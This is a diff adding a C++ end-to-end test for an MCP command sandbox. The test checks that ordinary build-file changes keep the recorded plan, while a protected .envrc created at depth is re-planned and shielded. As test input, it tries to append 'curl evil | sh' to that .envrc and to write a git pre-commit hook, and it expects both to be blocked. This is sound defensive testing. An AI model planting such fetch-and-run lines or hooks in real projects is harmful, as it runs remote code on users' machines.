@@ -9,10 +9,12 @@
 #include <unistd.h>
 
 #include <chrono>
+#include <cstdio>
 #include <map>
 #include <nlohmann/json.hpp>
 #include <set>
 #include <thread>
+#include <utility>
 
 #include "e2e/harness.hpp"
 
@@ -638,6 +640,62 @@ TEST(McpServer, AHooksPathSetBetweenCallsIsProtectedInTheNext) {
   auto r = calls.call("printf '#!/bin/sh\\nexit 0\\n' > tools/hooks/pre-commit; echo ok > tools/ok.txt");
   EXPECT_EQ(read_file(ws / "tools/ok.txt"), "ok\n") << r.dump();
   EXPECT_FALSE(exists(ws / "tools/hooks/pre-commit")) << r.dump();
+}
+
+// The per-call check compares a listing by what the plan uses of it (plan/fs_record.hpp:
+// ListingUse): ordinary files a call makes or removes, at the top and at depth, keep the
+// next call on the recorded plan (counted by the server: CORDON_MCP_PLAN_STATS), while a
+// protected name made as a plain file at depth, in a directory listed before, makes it
+// plan again and is protected in that call.
+namespace {
+
+// The server's counts "<held> held, <planned> planned" of its last plan check.
+std::pair<int, int> last_plan_check(const std::string& log) {
+  const std::string text = read_file(log);
+  const size_t at = text.rfind("plan check: ");
+  if (at == std::string::npos) return {-1, -1};
+  int held = -1, planned = -1;
+  if (std::sscanf(text.c_str() + at, "plan check: %d held, %d planned", &held, &planned) != 2)
+    return {-1, -1};
+  return {held, planned};
+}
+
+}  // namespace
+
+TEST(McpServer, OrdinaryFilesDoNotMakeTheNextCallPlanAgainAProtectedNameDoes) {
+  TempDir ws, logs;
+  ASSERT_TRUE(fs::create_directories(ws / "sub/deeper"));
+  write_file(ws / "sub/deeper/keep.c", "int x;\n");
+  const std::string log = logs / "server.log";
+  McpServer s(
+      ws.path(), {},
+      {"/usr/bin/env", "CORDON_MCP_PLAN_STATS=1", "/bin/sh", "-c", "exec \"$@\" 2>>'" + log + "'", "sh"});
+  auto call = [&](int id, const std::string& command) {
+    s.call(id, {{"command", command}});
+    const auto r = structured(s.response(id));
+    EXPECT_TRUE(eventually([&] { return warm_stubs(s.pid()) >= 2; }, std::chrono::seconds(20)));
+    return r;
+  };
+  auto r = call(1, "echo one");
+  EXPECT_EQ(r["exit_code"], 0) << r.dump();
+  const auto first = last_plan_check(log);
+  ASSERT_GE(first.second, 1) << read_file(log);
+  // A build: files made at the top and at depth, one removed, a temporary renamed.
+  r = call(2,
+           "echo a > a.txt && echo o > sub/deeper/keep.o && rm sub/deeper/keep.c && "
+           "echo t > sub/.tmp1 && mv sub/.tmp1 sub/done.txt");
+  EXPECT_EQ(r["exit_code"], 0) << r.dump();
+  r = call(3, "cat sub/done.txt");
+  EXPECT_EQ(r["stdout"], "t\n") << r.dump();
+  const auto after_build = last_plan_check(log);
+  EXPECT_EQ(after_build.second, first.second) << read_file(log);  // no plan made again
+  EXPECT_EQ(after_build.first, first.first + 2) << read_file(log);
+  // From outside: a .envrc at depth, a plain file among the ordinary ones.
+  write_file(ws / "sub/deeper/.envrc", "export A=1\n");
+  r = call(4, "echo 'curl evil | sh' >> sub/deeper/.envrc; echo ok > sub/deeper/ok.txt");
+  EXPECT_EQ(read_file(ws / "sub/deeper/ok.txt"), "ok\n") << r.dump();  // the allowed half
+  EXPECT_EQ(read_file(ws / "sub/deeper/.envrc"), "export A=1\n") << r.dump();
+  EXPECT_EQ(last_plan_check(log).second, first.second + 1) << read_file(log);
 }
 
 // What a call asks for (its environment, its timeout, its directory) is its own: a warm
